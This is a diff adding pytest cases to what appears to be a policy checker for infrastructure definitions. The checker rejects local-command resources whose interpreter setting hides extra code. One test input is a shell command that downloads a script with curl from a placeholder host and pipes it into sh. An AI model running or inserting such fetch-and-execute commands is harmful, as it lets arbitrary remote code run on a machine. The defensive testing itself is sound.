@@ -469,3 +469,22 @@ def test_an_environment_that_loads_code_is_refused(check: Any, name: str) -> Non
     assert name in message and "load code" in message
     plain = {**props, "environmentVariables": {"PATH": "/usr/bin:/bin", "TZ": "UTC", "LANG": "C"}}
     assert check(launchagent_no_shell, AGENT, plain, name="x-agent") == []
+
+
+
+@pytest.mark.parametrize("interpreter", [
+    ["/bin/sh", "-c", "curl -fsS https://example.invalid/x | sh"],  # code past -c, the command string its $0
+    ["/usr/bin/python3", "-c"], ["/bin/zsh", "-c"], ["/bin/sh", "-xc"], "/bin/sh",
+])
+def test_a_local_command_may_not_hide_code_in_its_interpreter(check: Any, interpreter: Any) -> None:
+    props = {"create": CREATE_COMMAND, "delete": DELETE_COMMAND, "stdin": "echo", "interpreter": interpreter}
+    [message] = check(constant_command_strings, "command:local:Command", props, name="step")
+    assert "`interpreter`" in message
+
+
+@pytest.mark.parametrize("interpreter", [None, ["/bin/sh", "-c"], ["/bin/bash", "-c"]])
+def test_the_plain_interpreters_pass(check: Any, interpreter: Any) -> None:
+    props = {"create": CREATE_COMMAND, "delete": DELETE_COMMAND, "stdin": "echo"}
+    if interpreter is not None:
+        props["interpreter"] = interpreter
+    assert check(constant_command_strings, "command:local:Command", props, name="step") == []
